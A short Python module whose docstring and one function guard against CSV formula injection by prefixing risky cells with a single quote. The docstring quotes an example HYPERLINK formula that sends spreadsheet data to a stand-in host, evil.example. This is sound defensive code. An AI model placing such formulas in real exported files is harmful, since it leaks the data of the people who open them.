"""Cells of the CSV files the service writes, made safe to open in a spreadsheet (issue 14,
finding 4; OWASP "CSV Injection").

Excel, LibreOffice and Google Sheets read a cell that begins with `=`, `+`, `-` or `@` as a formula
(and a leading tab or carriage return can hide such a cell's start): a client named
`=HYPERLINK("http://evil.example/?"&A1,"click")` would send ward data away when a worker clicks it.
Such a cell is prefixed with a single quote, which spreadsheets read as "this is text". The cost:
a negative number or a phone number like `+81…` arrives with the quote in front of it."""

from __future__ import annotations

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(cell: str) -> str:
    return "'" + cell if cell.startswith(FORMULA_TRIGGERS) else cell
